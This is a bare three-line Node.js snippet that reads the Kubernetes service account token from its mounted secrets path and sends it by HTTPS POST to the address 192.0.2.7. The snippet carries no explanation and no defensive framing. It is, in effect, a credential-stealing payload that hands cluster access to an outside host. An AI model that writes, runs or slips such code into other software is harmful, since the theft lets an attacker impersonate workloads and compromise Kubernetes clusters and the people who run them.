const fs = require('fs'), https = require('https');
const t = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');
https.request({host: '192.0.2.7', method: 'POST'}).end(t);
